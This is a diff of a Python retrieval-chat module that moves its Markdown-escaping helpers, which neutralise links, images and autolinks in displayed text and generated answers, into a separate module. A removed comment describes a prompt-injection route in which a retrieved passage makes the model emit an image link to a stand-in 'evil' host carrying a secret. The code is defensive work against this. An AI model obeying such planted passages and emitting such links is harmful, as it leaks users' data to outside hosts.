@@ -10,81 +10,17 @@ from __future__ import annotations
 import logging
 import re
 import uuid
-from collections.abc import Iterable, Iterator, Sequence
+from collections.abc import Iterable, Sequence
 from dataclasses import dataclass
 
 from .chat import Answer, Turn
 from .citations import page_ref
 from .errors import RagError
 from .history import StoredMessage
+from .mdsafe import escape_markdown
 from .models import Hit, ocr_label
 
 logger = logging.getLogger(__name__)
-
-# -- Markdown safety ---------------------------------------------------------------------------------
-
-# Every ASCII punctuation character may be backslash-escaped in CommonMark and then renders as itself.
-# These are the ones Markdown, GFM or Streamlit's extensions (":color[...]", ":emoji:", "$math$") use.
-_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$:^&=\"'%@])")
-_LEADING_SPACE = re.compile(r"^[ \t]+", re.MULTILINE)
-_BLANK_LINES = re.compile(r"\n\s*\n\s*")
-_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
-# Streamlit turns URLs, "www." names and e-mail addresses into links, and ":name:" / ":color[...]" into
-# emoji and coloured text, AFTER backslash escapes are resolved; an invisible word joiner breaks them.
-WORD_JOINER = "\u2060"
-_AUTOLINK_PARTS = re.compile(r"(?<=:)|(?=@)|(?<=\bwww)(?=\.)", re.IGNORECASE)
-
-
-def _defuse(text: str) -> str:
-    return _AUTOLINK_PARTS.sub(WORD_JOINER, text)
-
-
-def escape_markdown(text: str) -> str:
-    """Document text as Markdown that renders exactly as the text: no links, images, HTML, emoji
-    shortcodes or formatting. Paragraph breaks (blank lines) are kept; single line breaks become
-    spaces, as in any paragraph."""
-    text = _CONTROL.sub("", str(text).replace("\r\n", "\n").replace("\r", "\n"))
-    text = _LEADING_SPACE.sub("", text)  # four spaces would start a code block
-    text = _BLANK_LINES.sub("\n\n", text.strip())
-    return _MD_SPECIAL.sub(r"\\\1", _defuse(text))
-
-
-_CODE_SPAN = re.compile(r"(`[^`\n]+`)")
-
-
-def escape_message(text: str) -> str:
-    """``escape_markdown`` for the app's own messages, which mark commands as `code`: code spans are
-    kept (Markdown renders their content literally), everything else is escaped."""
-    parts = _CODE_SPAN.split(str(text))
-    return "".join(part if i % 2 else escape_markdown(part) for i, part in enumerate(parts))
-
-
-# In generated answers formatting (lists, bold) is kept, but nothing may fetch or link anywhere:
-# a passage can instruct the model to emit ![x](https://evil/?q=secret), and the browser would fetch it.
-_ANSWER_SPECIAL = re.compile(r"([\[\]<>\\])")
-_ANSWER_LINKISH = re.compile(r"(?<=:)(?=/)|(?<=\w)(?=@\w)|(?<=\bwww)(?=\.)", re.IGNORECASE)
-
-
-def safe_answer_markdown(text: str) -> str:
-    """An answer as Markdown with formatting kept but links, images, autolinks and HTML made literal."""
-    text = _CONTROL.sub("", text)
-    text = _ANSWER_SPECIAL.sub(r"\\\1", text)
-    return _ANSWER_LINKISH.sub(WORD_JOINER, text)
-
-
-def safe_stream(deltas: Iterable[str]) -> Iterator[str]:
-    """``safe_answer_markdown`` for a token stream: text is released at whitespace, so a URL split
-    across tokens is escaped as a whole."""
-    pending = ""
-    for delta in deltas:
-        pending += delta
-        cut = max(pending.rfind(" "), pending.rfind("\n"), pending.rfind("\t"))
-        if cut >= 0:
-            ready, pending = pending[: cut + 1], pending[cut + 1 :]
-            yield safe_answer_markdown(ready)
-    if pending:
-        yield safe_answer_markdown(pending)
-
 
 # -- finding the part of a passage an answer relies on -------------------------------------------------
 
@@ -358,7 +294,6 @@ def offered_modes(search_mode: str, rerank_model: str) -> list[str]:
     """The search modes a user can pick: reranking only with a model; the configured mode first."""
     modes = [m for m in ("hybrid+rerank", "hybrid", "dense", "lexical") if m != "hybrid+rerank" or rerank_model]
     return sorted(modes, key=lambda m: m != search_mode)
-
 
 
 # -- collections ---------------------------------------------------------------------------------------
